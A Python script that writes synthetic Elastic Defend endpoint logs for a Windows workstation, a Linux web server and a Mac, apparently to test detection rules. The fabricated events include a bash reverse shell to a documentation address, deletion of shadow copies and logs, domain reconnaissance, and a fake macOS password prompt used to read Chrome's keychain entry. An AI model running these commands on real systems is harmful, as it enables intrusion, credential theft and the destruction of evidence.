#!/usr/bin/env python3
"""Writes the evidence in examples/evidence/: three machines, in the shape of Elastic Defend's documents.

The story is told by hand below, the ordinary work around it is drawn from a generator with a fixed
seed, so that the same files come out each time. `make_examples.py [DIR]`; examples/README.md tells
the story.
"""

import base64
import datetime
import gzip
import hashlib
import io
import json
import pathlib
import random
import sys

UTC = datetime.timezone.utc
MICROSOFT = {"exists": True, "status": "trusted", "trusted": True, "subject_name": "Microsoft Windows"}
MICROSOFT_CORP = {**MICROSOFT, "subject_name": "Microsoft Corporation"}


def vendor(name):
    """A valid signature of somebody else."""
    return {"exists": True, "status": "trusted", "trusted": True, "subject_name": name}


class Machine:
    """One machine with its agent: makes documents, keeps them, knows its processes."""

    def __init__(self, name, os_type, os_full, address, day, seed):
        self.rng = random.Random(seed)
        self.start = datetime.datetime.fromisoformat(day).replace(tzinfo=UTC)
        self.agent = self.uuid(name + "agent")
        self.host = {
            "name": name, "hostname": name, "id": self.uuid(name), "architecture": "x86_64",
            "ip": [address, "127.0.0.1", "::1"],
            "os": {"type": os_type, "family": os_type, "platform": os_type, "full": os_full,
                   "name": os_full.split(" ")[0]},
        }
        self.address = address
        self.events = []

    @staticmethod
    def uuid(text):
        """A fixed UUID for a text."""
        h = hashlib.sha256(text.encode()).hexdigest()
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-8{h[17:20]}-{h[20:32]}"

    def stamp(self, at):
        """`at` is seconds after the start of the recording; seven digits, as the agent writes them."""
        time = self.start + datetime.timedelta(seconds=at)
        return time.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"

    def process(self, executable, pid, user, parent=None, args=(), signature=None, at=0.0):
        """What identifies a process in each of its events."""
        separator = "\\" if "\\" in executable else "/"
        key = f"{self.agent}-{pid}-{at:.3f}"
        process = {
            "entity_id": base64.b64encode(key.encode()).decode(), "pid": pid,
            "name": executable.rsplit(separator, 1)[1], "executable": executable,
            "args": [executable, *args], "args_count": 1 + len(args),
            "command_line": " ".join([executable, *args]),
            "hash": {"sha256": hashlib.sha256(executable.encode()).hexdigest()},
        }
        if signature:
            process["code_signature"] = signature
        if parent:
            process["parent"] = {k: parent["process"][k]
                                 for k in ("entity_id", "pid", "name", "executable", "command_line")}
        return {"process": process, "user": user, "start": at}

    def emit(self, at, dataset, action, types, who, short=True, **fields):
        """Adds one document. `short` leaves out of the process what only its own events carry."""
        process = dict(who["process"])
        if short:
            for key in ("args", "args_count", "command_line", "hash", "parent"):
                process.pop(key, None)
        self.events.append((at, {
            "@timestamp": self.stamp(at),
            "agent": {"id": self.agent, "type": "endpoint", "version": "9.1.3"},
            "data_stream": {"type": "logs", "dataset": f"endpoint.events.{dataset}", "namespace": "default"},
            "ecs": {"version": "8.10.0"},
            "event": {"action": action, "category": [dataset], "type": types, "kind": "event",
                      "module": "endpoint", "dataset": f"endpoint.events.{dataset}",
                      "created": self.stamp(at), "ingested": self.stamp(at + 1.5)},
            "host": self.host, "process": process, "user": who["user"], **fields,
            "message": f"Endpoint {dataset} event",
        }))

    def run(self, at, executable, pid, user, parent=None, args=(), signature=None, action="start"):
        """A process starts."""
        who = self.process(executable, pid, user, parent, args, signature, at)
        self.emit(at, "process", action, ["start"], who, short=False)
        return who

    def end(self, at, who, code=0):
        """A process ends."""
        ended = {**who, "process": {**who["process"], "exit_code": code}}
        self.emit(at, "process", "end", ["end"], ended, short=False)

    def connect(self, at, who, address, port, transport="tcp"):
        """A process opens a connection."""
        self.emit(at, "network", "connection_attempted", ["start"], who,
                  source={"ip": self.address, "address": self.address, "port": self.rng.randint(49152, 65000)},
                  destination={"ip": address, "address": address, "port": port},
                  network={"transport": transport, "type": "ipv4", "direction": "egress"})

    def lookup(self, at, who, name, address):
        """A process resolves a name."""
        self.emit(at, "network", "lookup_requested", ["protocol", "info"], who,
                  dns={"question": {"name": name, "type": "A"}, "resolved_ip": [address]},
                  network={"protocol": "dns"})

    def file(self, at, who, path, action="creation"):
        """A process creates, changes or removes a file."""
        name = path.rsplit("\\" if "\\" in path else "/", 1)[1]
        types = {"creation": ["creation"], "modification": ["change"], "deletion": ["deletion"]}[action]
        extension = {"extension": name.rsplit(".", 1)[1]} if "." in name[1:] else {}
        self.emit(at, "file", action, types, who,
                  file={"path": path, "name": name, "size": self.rng.randint(200, 400000), **extension})

    def library(self, at, who, path):
        """A process loads a library of Microsoft's."""
        self.emit(at, "library", "load", ["start"], who,
                  dll={"path": path, "name": path.rsplit("\\", 1)[1], "code_signature": MICROSOFT})

    def registry(self, at, who, key, value):
        """A process writes a value of the registry."""
        self.emit(at, "registry", "modification", ["change"], who,
                  registry={"hive": "HKEY_USERS", "key": key, "value": value,
                            "path": f"HKEY_USERS\\{key}\\{value}"})

    def documents(self):
        """All documents in order of time, numbered as the agent numbers them."""
        self.events.sort(key=lambda pair: pair[0])
        for number, (_, doc) in enumerate(self.events):
            doc["event"]["sequence"] = 1000 + number
            doc["event"]["id"] = f"{self.host['name']}-{number:04d}"
        return [doc for _, doc in self.events]


def workstation():
    """An hour of a Windows workstation."""
    m = Machine("ws-harbour-07", "windows", "Windows 11 Enterprise 23H2", "10.20.3.7",
                "2026-03-12T09:00:00", 7)
    marta = {"name": "mkeller", "domain": "HARBOUR", "id": "S-1-5-21-3310-77-901-1104"}
    system = {"name": "SYSTEM", "domain": "NT AUTHORITY", "id": "S-1-5-18"}
    local = {"name": "LOCAL SERVICE", "domain": "NT AUTHORITY", "id": "S-1-5-19"}
    sys32 = "C:\\Windows\\System32\\"
    home = "C:\\Users\\mkeller\\"
    kernel = m.process("C:\\Windows\\System", 4, system)
    kernel["process"].update(name="System", executable="System")
    services = m.process(sys32 + "services.exe", 688, system, signature=MICROSOFT)
    explorer = m.process("C:\\Windows\\explorer.exe", 5120, marta, signature=MICROSOFT)
    edge = m.process("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", 7004, marta, explorer,
                     signature=MICROSOFT_CORP)
    outlook = m.process("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", 6212, marta, explorer,
                        signature=MICROSOFT_CORP)
    workstation_story(m, marta, explorer, sys32, home)
    workstation_lookalikes(m, marta, system, local, kernel, services, sys32)
    workstation_noise(m, marta, system, [edge, outlook, explorer], services, sys32, home)
    return m.documents()


def workstation_story(m, marta, explorer, sys32, home):
    """What the intruder does: the numbers are those of examples/README.md."""
    # 1. A script out of an archive drops a program and starts it.
    script = m.run(842.1, sys32 + "wscript.exe", 8840, marta, explorer,
                   [home + "Downloads\\invoice_2214\\invoice_2214.js"], MICROSOFT)
    m.lookup(843.0, script, "cdn.parcel-status.example", "203.0.113.80")
    m.connect(843.2, script, "203.0.113.80", 443)
    dropped = home + "AppData\\Roaming\\updsvc.exe"
    m.file(845.6, script, dropped)
    agent = m.run(846.3, dropped, 8912, marta, script)
    m.end(847.0, script)
    m.registry(848.2, agent, "S-1-5-21-3310-77-901-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "updsvc")
    for at in (850.0, 1450.0, 2050.0, 2650.0, 3250.0):
        m.connect(at, agent, "203.0.113.80", 443)
    # 2. It looks around in the domain.
    for at, pid, program, args in [
            (961.0, 9001, "whoami.exe", ["/all"]),
            (975.5, 9010, "net.exe", ["group", "Domain Admins", "/domain"]),
            (983.2, 9022, "nltest.exe", ["/dclist:harbour.example"])]:
        shell = m.run(at - 0.4, sys32 + "cmd.exe", pid - 1, marta, agent, ["/c", program, *args], MICROSOFT)
        tool = m.run(at, sys32 + program, pid, marta, shell, args, MICROSOFT)
        m.end(at + 0.9, tool)
        m.end(at + 1.0, shell)
    # 3. It moves: a tool of its own against two servers, then a program of Windows against a third.
    mover = "C:\\Users\\Public\\wmsx.exe"
    m.file(1260.0, agent, mover)
    for at, pid, target, wait in [(1270.4, 9104, "10.20.0.5", 2.9), (1334.8, 9112, "10.20.0.6", 60.0)]:
        tool = m.run(at, mover, pid, marta, agent, ["-t", target, "-s", "ADMIN$"])
        m.connect(at + wait, tool, target, 445)
        m.connect(at + wait + 1.1, tool, target, 445)
        m.end(at + wait + 9.0, tool)
    slow = m.run(1420.0, mover, 9120, marta, agent, ["-t", "10.20.0.8", "-s", "ADMIN$"])
    m.connect(1480.001, slow, "10.20.0.8", 445)  # one millisecond too late for the rule
    m.end(1490.0, slow)
    borrowed = m.run(1602.7, sys32 + "rundll32.exe", 9140, marta, agent, [home + "AppData\\Roaming\\upd.dll,Sync"],
                     MICROSOFT)
    m.connect(1611.3, borrowed, "10.20.0.9", 445)
    m.end(1640.0, borrowed)
    # 4. It makes restoring hard.
    shell = m.run(2101.0, sys32 + "cmd.exe", 9201, marta, agent, ["/c", "vssadmin delete shadows /all /quiet"],
                  MICROSOFT)
    vss = m.run(2101.3, sys32 + "vssadmin.exe", 9202, marta, shell, ["delete", "shadows", "/all", "/quiet"], MICROSOFT)
    m.end(2102.9, vss)
    m.end(2103.0, shell)


def workstation_lookalikes(m, marta, system, local, kernel, services, sys32):
    """Port 445 as it should be, and programs that the SMB rule must leave alone."""
    for i in range(18):
        m.connect(60.0 + 190.0 * i, kernel, "10.20.0.5" if i % 3 else "10.20.0.7", 445)
    backup = m.run(300.0, "C:\\Program Files\\Harbour Backup\\hbagent.exe", 3344, system, services, ["--nightly"],
                   vendor("Harbour Software GmbH"))
    m.connect(304.0, backup, "10.20.0.7", 445)
    scripts = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\"
    response = m.run(1820.0, sys32 + "WindowsPowerShell\\v1.0\\powershell.exe", 7770, system, services,
                     ["-ExecutionPolicy", "AllSigned", "-File", scripts + "PSScript_{5d1c}.ps1"], MICROSOFT)
    m.connect(1822.5, response, "10.20.0.5", 445)
    m.end(1830.0, response)
    finder = m.run(2400.0, sys32 + "svchost.exe", 3100, local, services, ["-k", "LocalService"], MICROSOFT)
    m.connect(2404.0, finder, "10.20.0.7", 445)
    admin = m.run(2700.0, sys32 + "whoami.exe", 7801, marta, None, [], MICROSOFT)
    m.end(2700.2, admin)


def workstation_noise(m, marta, system, desktop, services, sys32, home):
    """Ordinary work."""
    sites = [("news.example", "198.51.100.10"), ("mail.harbour.example", "10.20.0.12"),
             ("cdn.maps.example", "198.51.100.44"), ("tickets.harbour.example", "10.20.0.15")]
    for i in range(34):
        at = m.rng.uniform(5, 3590)
        who = desktop[i % 2]
        name, address = m.rng.choice(sites)
        m.lookup(at, who, name, address)
        m.connect(at + 0.05, who, address, 443)
    for i in range(14):
        at = m.rng.uniform(5, 3590)
        m.file(at, desktop[i % 3], f"{home}Documents\\draft_{i:02d}.docx", m.rng.choice(["creation", "modification"]))
    for i in range(11):
        at = m.rng.uniform(5, 3500)
        job = m.run(at, sys32 + m.rng.choice(["svchost.exe", "taskhostw.exe", "dllhost.exe"]), 10000 + 12 * i, system,
                    services, ["-k", "netsvcs"], MICROSOFT)
        m.library(at + 0.1, job, sys32 + m.rng.choice(["wldp.dll", "amsi.dll", "netapi32.dll"]))
        m.end(at + m.rng.uniform(1, 80), job)
    for i in range(7):
        at = m.rng.uniform(5, 3500)
        tool = m.run(at, "C:\\Program Files\\Sketch Board\\board.exe", 11000 + 4 * i, marta, desktop[2],
                     [f"plan{i}.brd"], vendor("Sketch Board Ltd"))
        m.registry(at + 1, tool, "S-1-5-21-3310-77-901-1104\\Software\\SketchBoard", "LastFile")


def web_server():
    """Forty minutes of a Linux web server."""
    m = Machine("web-quay-02", "linux", "Debian 12.9", "10.30.0.12", "2026-03-12T11:00:00", 12)
    www = {"name": "www-data", "id": "33"}
    root = {"name": "root", "id": "0"}
    cron = m.process("/usr/sbin/cron", 611, root)
    php = m.process("/usr/sbin/php-fpm8.2", 912, www)
    for i in range(24):
        at = m.rng.uniform(1, 2390)
        m.connect(at, php, "10.30.0.20", 5432)
    for i in range(8):
        job = m.run(300.0 * i + 1, "/bin/sh", 20000 + i, root, cron, ["-c", "/usr/lib/php/sessionclean"], action="exec")
        m.end(300.0 * i + 1.4, job)
    thumb = m.run(640.0, "/bin/sh", 21001, www, php, ["-c", "convert upload.png -resize 200 thumb.png"], action="exec")
    m.connect(640.5, thumb, "10.30.0.31", 8080)
    m.end(641.0, thumb)
    rotate = m.run(1200.0, "/usr/sbin/logrotate", 22000, root, cron, ["/etc/logrotate.conf"], action="exec")
    for i, name in enumerate(["auth.log.4.gz", "syslog.4.gz", "kern.log.4.gz", "dpkg.log.12.gz", "mail.log.4.gz"]):
        m.file(1200.5 + 0.1 * i, rotate, "/var/log/" + name, "deletion")
    m.end(1202.0, rotate)
    # The page that was uploaded is called: a shell, which calls home.
    m.file(1510.0, php, "/var/www/shop/media/.thumbs.php")
    shell = m.run(1533.2, "/usr/bin/bash", 23110, www, php,
                  ["-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"], action="exec")
    m.connect(1533.9, shell, "198.51.100.23", 4444)
    for i, args in enumerate([["-a"], ["/etc/passwd"], ["-l"]]):
        tool = m.run(1560.0 + 9 * i, "/usr/bin/" + ["uname", "cat", "sudo"][i], 23120 + i, www, shell, args,
                     action="exec")
        m.end(1560.2 + 9 * i, tool)
    # With root's rights the traces go.
    wipe = m.run(1904.0, "/usr/bin/rm", 23190, root, shell, ["-f", "/var/log/auth.log", "/var/log/wtmp",
                                                            "/var/log/btmp", "/var/log/nginx/access.log"],
                 action="exec")
    for i, name in enumerate(["auth.log", "wtmp", "btmp", "nginx/access.log"]):
        m.file(1904.01 + 0.01 * i, wipe, "/var/log/" + name, "deletion")
    m.end(1904.2, wipe)
    return m.documents()


def mac():
    """Forty minutes of a Mac."""
    m = Machine("mac-design-03", "macos", "macOS 15.3", "10.20.4.3", "2026-03-12T13:00:00", 3)
    jo = {"name": "jo", "id": "501"}
    root = {"name": "root", "id": "0"}
    launchd = m.process("/sbin/launchd", 1, root)
    finder = m.process("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", 480, jo, launchd)
    safari = m.process("/Applications/Safari.app/Contents/MacOS/Safari", 733, jo, launchd)
    for i in range(14):
        at = m.rng.uniform(1, 2390)
        m.lookup(at, safari, m.rng.choice(["fonts.example", "type.example", "prints.example"]), "198.51.100.61")
        m.connect(at + 0.1, safari, "198.51.100.61", 443)
    for i in range(8):
        m.file(m.rng.uniform(1, 2390), finder, f"/Users/jo/Desktop/poster_{i}.psd", "modification")
    # A printer driver is installed as it should be.
    installer = m.run(420.0, "/usr/sbin/installer", 1501, root, launchd, ["-pkg", "/tmp/plotter.pkg", "-target", "/"],
                      action="exec")
    setup = m.run(423.0, "/usr/local/plotter/setup", 1507, root, installer, [], vendor("Plotter Co"), action="exec")
    m.file(424.0, setup, "/Library/LaunchDaemons/com.plotter.spool.plist")
    m.end(430.0, installer)
    # A program from the web asks for a password, reads the browser's key and stays.
    lure = m.run(1500.0, "/Volumes/Fonts Pro/Fonts Pro.app/Contents/MacOS/Fonts Pro", 1702, jo, launchd, action="exec")
    ask = m.run(1503.0, "/usr/bin/osascript", 1710, jo, lure,
                ["-e", "display dialog \"macOS needs your password\" default answer \"\" with hidden answer"],
                action="exec")
    m.end(1519.0, ask)
    key = m.run(1522.0, "/usr/bin/security", 1715, jo, lure, ["find-generic-password", "-ga", "Chrome"], action="exec")
    m.end(1522.3, key)
    m.file(1526.0, lure, "/Users/jo/Library/LaunchAgents/com.apple.fontsyncd.plist")
    m.connect(1531.0, lure, "203.0.113.141", 443)
    return m.documents()


def lines(documents):
    """NDJSON."""
    return "".join(json.dumps(doc, ensure_ascii=False, separators=(",", ":")) + "\n" for doc in documents)


def packed(text):
    """gzip without name and time, so that it comes out the same."""
    buffer = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buffer, mtime=0) as file:
        file.write(text.encode())
    return buffer.getvalue()


def main(argv):
    folder = pathlib.Path(argv[0]) if argv else pathlib.Path(__file__).resolve().parent.parent / "examples/evidence"
    (folder / "workstation.ndjson").write_text(lines(workstation()))
    (folder / "webserver.ndjson.gz").write_bytes(packed(lines(web_server())))
    (folder / "mac.json").write_text(json.dumps(mac(), ensure_ascii=False, indent=1) + "\n")


if __name__ == "__main__":
    main(sys.argv[1:])
